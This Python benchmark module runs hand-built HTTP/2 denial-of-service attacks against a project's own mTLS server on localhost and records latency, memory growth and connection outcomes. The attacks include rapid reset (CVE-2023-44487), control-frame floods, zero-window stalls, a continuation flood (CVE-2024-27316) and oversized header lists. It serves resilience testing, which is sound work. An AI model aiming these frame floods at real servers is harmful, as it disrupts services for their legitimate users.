"""HTTP/2 attacks on ``serve`` over mTLS, by a client holding a valid certificate, while a legitimate client keeps
calling filter: what the legitimate calls wait during and right after each attack, how the server's memory grows,
and how the attacker's connections end.

Each attack runs in a process of its own (``python -m benchmarks.h2_attacks <attack> ...``), so it competes with the
server for the machine but not with the legitimate client for a GIL, and prints what it saw as one JSON line. Frames
are written by hand (``hyperframe``, ``hpack``): an HTTP/2 client library would refuse to send most of them.

- ``rapid_reset``: whole requests (a filter with no body) each reset at once, as fast as the socket takes them
  (CVE-2023-44487);
- ``ping_flood``, ``settings_flood``, ``window_update_flood``: control frames from a client that never reads;
- ``zero_window``: a window of 0 for every reply, then requests, never a WINDOW_UPDATE;
- ``continuation_flood``: a 1 MiB header block in CONTINUATION frames (CVE-2024-27316);
- ``many_headers``: 1,800 one-byte indexed header fields in one request.

Used by ``tests/api/http/test_http2_attacks.py`` (which holds the bounds) and ``benchmarks/bench_h2_attacks.py``
(which prints the figures); ``benchmarks/bench_h2_attacks.py`` also starts the server they attack.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from benchmarks.e2e.processes import rss_bytes

__all__ = [
    "ATTACKS",
    "NEVER_READS",
    "Attacked",
    "Certificates",
    "Legitimate",
    "Outcome",
    "attack",
    "measure",
    "percentile",
]

ATTACKS = (
    "rapid_reset",
    "ping_flood",
    "settings_flood",
    "window_update_flood",
    "zero_window",
    "continuation_flood",
    "many_headers",
)
NEVER_READS = frozenset({"ping_flood", "settings_flood", "window_update_flood"})
"""Attacks whose client reads nothing: the server can only end them by closing (it cannot be heard to GOAWAY)."""

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_GOAWAY = 0x7
_HEAD = [(b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/filter"), (b":authority", b"localhost")]


@dataclass(frozen=True)
class Certificates:
    ca: Path
    cert: Path
    key: Path

    def context(self) -> ssl.SSLContext:
        context = ssl.create_default_context(cafile=str(self.ca))
        context.load_cert_chain(str(self.cert), str(self.key))
        context.set_alpn_protocols(["h2"])
        return context


@dataclass
class Attacked:
    """What one attack saw: connections made, how the server ended them, and frames sent."""

    connections: int = 0
    goaways: Counter[str] = field(default_factory=Counter)  # error code name -> connections ended so
    closed: int = 0  # connections the server closed without a GOAWAY the attacker read
    frames: int = 0

    def as_json(self) -> str:
        return json.dumps({**self.__dict__, "goaways": dict(self.goaways)})

    @classmethod
    def from_json(cls, line: str) -> Attacked:
        data = json.loads(line)
        return cls(data["connections"], Counter(data["goaways"]), data["closed"], data["frames"])


# --- the attacker -------------------------------------------------------------------------------------------------


class _Connection:
    def __init__(self, port: int, context: ssl.SSLContext, settings: dict[int, int] | None = None) -> None:
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock = context.wrap_socket(raw, server_hostname="localhost")
        self.encoder = Encoder()
        self.next_stream = 1
        self.received = b""
        frame = SettingsFrame(0)
        frame.settings = dict(settings or {})
        self.sock.sendall(_PREFACE + frame.serialize())

    def stream(self) -> int:
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        return stream

    def headers(self, stream: int, fields: list[tuple[bytes, bytes]], *, end_stream: bool) -> bytes:
        frame = HeadersFrame(stream, self.encoder.encode(fields))
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def goaway(self) -> str | None:
        """Reads what has arrived, without waiting; the error code of a GOAWAY among it."""
        self.sock.setblocking(False)
        try:
            while chunk := self.sock.recv(1 << 16):
                self.received += chunk
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        finally:
            self.sock.setblocking(True)
        data, at = self.received, 0
        while len(data) - at >= 9:
            length, kind = int.from_bytes(data[at : at + 3], "big"), data[at + 3]
            if len(data) - at < 9 + length:
                break
            if kind == _GOAWAY:
                (code,) = struct.unpack(">I", data[at + 13 : at + 17])
                return _code_name(code)
            at += 9 + length
        self.received = data[at:]
        return None

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def _code_name(code: int) -> str:
    from h2.errors import ErrorCodes

    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


def _batches(kind: str, connection: _Connection) -> Iterator[bytes]:
    """What the attack writes next on ``connection``, batch by batch, until the connection is gone."""
    if kind == "rapid_reset":
        while True:  # a whole request each (no body: bodies would need the windows tracked), then its reset
            batch = bytearray()
            for _ in range(100):
                stream = connection.stream()
                batch += connection.headers(stream, _HEAD, end_stream=True)
                batch += RstStreamFrame(stream, error_code=8).serialize()
            yield bytes(batch)
    elif kind in NEVER_READS:
        frame = {
            "ping_flood": PingFrame(0, b"12345678"),
            "settings_flood": _settings({0x2: 0}),
            "window_update_flood": WindowUpdateFrame(0, 1),
        }[kind]
        flood = frame.serialize() * 1000
        while True:
            yield flood
    elif kind == "zero_window":  # requests with no body (bodies would need the windows tracked): each gets a 400
        yield b"".join(connection.headers(connection.stream(), _HEAD, end_stream=True) for _ in range(200))
        while True:
            yield b""
    elif kind == "continuation_flood":
        stream = connection.stream()
        first = HeadersFrame(stream, connection.encoder.encode(_HEAD))
        yield first.serialize()
        for index in range(60):  # h2 itself refuses more than 64 frames to a block: this one it takes
            frame = ContinuationFrame(stream, b"\x00\x01x\x7f\x81\x80" + b"a" * (16_000 - 6))  # part of a literal
            if index == 59:
                frame.flags.add("END_HEADERS")
            yield frame.serialize()
        while True:
            yield b""
    elif kind == "many_headers":
        stream = connection.stream()
        frame = HeadersFrame(stream, connection.encoder.encode(_HEAD) + b"\x82" * 1800)  # ":method: GET", indexed
        frame.flags.add("END_HEADERS")
        frame.flags.add("END_STREAM")
        yield frame.serialize()
        while True:
            yield b""
    else:
        raise ValueError(f"unknown attack {kind!r}; one of {', '.join(ATTACKS)}")


def _settings(values: dict[int, int]) -> SettingsFrame:
    frame = SettingsFrame(0)
    frame.settings = values
    return frame


def attack(kind: str, *, port: int, certificates: Certificates, seconds: float) -> Attacked:
    """Runs ``kind`` for ``seconds``, reconnecting each time the server ends a connection."""
    seen = Attacked()
    context = certificates.context()
    settings = {0x4: 0} if kind == "zero_window" else None  # SETTINGS_INITIAL_WINDOW_SIZE
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            connection = _Connection(port, context, settings)
        except (OSError, ssl.SSLError):
            seen.closed += 1  # refused before any frame: a cap on connections or handshakes
            time.sleep(0.01)
            continue
        seen.connections += 1
        try:
            for batch in _batches(kind, connection):
                if time.monotonic() >= deadline:
                    break
                if batch:
                    connection.sock.sendall(batch)
                    seen.frames += 1
                else:
                    time.sleep(0.05)
                if kind not in NEVER_READS and (code := connection.goaway()) is not None:
                    seen.goaways[code] += 1
                    break
        except (OSError, ssl.SSLError):
            code = None
            if kind not in NEVER_READS:
                try:
                    code = connection.goaway()
                except (OSError, ssl.SSLError):
                    code = None
            if code is not None:
                seen.goaways[code] += 1
            else:
                seen.closed += 1
        finally:
            connection.close()
    return seen


# --- the legitimate client and the server's memory -----------------------------------------------------------------


class Legitimate:
    """Calls filter over HTTP/2 every ``interval`` seconds in a thread, as kube-scheduler would; records each call's
    seconds (a failure or a timeout as ``inf``) with the time it started."""

    def __init__(self, url: str, certificates: Certificates, body: bytes, *, interval: float = 0.05) -> None:
        self._url = url
        self._certificates = certificates
        self._body = body
        self._interval = interval
        self.calls: list[tuple[float, float]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> Legitimate:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join()

    def _run(self) -> None:
        context = self._certificates.context()
        with httpx.Client(http2=True, verify=context, timeout=5.0) as client:
            while not self._stop.is_set():
                started = time.monotonic()
                try:
                    ok = client.post(f"{self._url}/filter", content=self._body).status_code == 200
                except httpx.HTTPError:
                    ok = False
                self.calls.append((started, time.monotonic() - started if ok else float("inf")))
                self._stop.wait(max(0.0, self._interval - (time.monotonic() - started)))

    def between(self, start: float, end: float) -> list[float]:
        return sorted(seconds for at, seconds in self.calls if start <= at < end)


def percentile(values: list[float], q: float) -> float:
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


def run_attacker(kind: str, *, port: int, certificates: Certificates, seconds: float) -> Attacked:
    """``attack`` in a process of its own; what it saw."""
    command = [
        sys.executable,
        "-m",
        "benchmarks.h2_attacks",
        kind,
        "--port",
        str(port),
        "--ca",
        str(certificates.ca),
        "--cert",
        str(certificates.cert),
        "--key",
        str(certificates.key),
        "--seconds",
        str(seconds),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=seconds + 120, check=False)
    if done.returncode != 0:
        raise RuntimeError(f"attacker {kind} failed:\n{done.stderr}")
    return Attacked.from_json(done.stdout.strip().splitlines()[-1])


@dataclass(frozen=True)
class Outcome:
    """One attack against a serving process: the attacker's view, the legitimate calls during it and in the second
    after it, and the server's memory before and at its end."""

    kind: str
    attacked: Attacked
    during: list[float]
    after: list[float]
    rss_before: int
    rss_peak: int

    def line(self) -> str:
        attacked = self.attacked
        return (
            f"{self.kind:<20} legit p50 {percentile(self.during, 0.5) * 1000:7.1f} ms  "
            f"p99 {percentile(self.during, 0.99) * 1000:7.1f} ms  ({len(self.during)} calls)  "
            f"after: max {max(self.after, default=float('nan')) * 1000:6.1f} ms  "
            f"RSS +{(self.rss_peak - self.rss_before) / 2**20:5.1f} MB  "
            f"attacker: {attacked.connections} connections, GOAWAY {dict(attacked.goaways)}, closed {attacked.closed}"
        )


def measure(
    kind: str,
    *,
    port: int,
    pid: int,
    certificates: Certificates,
    seconds: float,
    legitimate: Legitimate,
    sample: Callable[[], None] | None = None,
) -> Outcome:
    """Runs ``kind`` for ``seconds`` while ``legitimate`` keeps calling; samples the server's RSS every 0.2 s."""
    rss_before = rss_bytes(pid)
    peak = [rss_before]
    stop = threading.Event()

    def watch() -> None:
        while not stop.wait(0.2):
            peak[0] = max(peak[0], rss_bytes(pid))

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    start = time.monotonic()
    attacked = run_attacker(kind, port=port, certificates=certificates, seconds=seconds)
    end = time.monotonic()
    time.sleep(1.0)
    stop.set()
    watcher.join()
    return Outcome(
        kind, attacked, legitimate.between(start, end), legitimate.between(end, end + 1.0), rss_before, peak[0]
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.h2_attacks", description=__doc__)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", type=Path, required=True)
    parser.add_argument("--cert", type=Path, required=True)
    parser.add_argument("--key", type=Path, required=True)
    parser.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args(argv)
    seen = attack(
        args.attack,
        port=args.port,
        certificates=Certificates(args.ca, args.cert, args.key),
        seconds=args.seconds,
    )
    print(seen.as_json())
    return 0


if __name__ == "__main__":
    sys.exit(main())
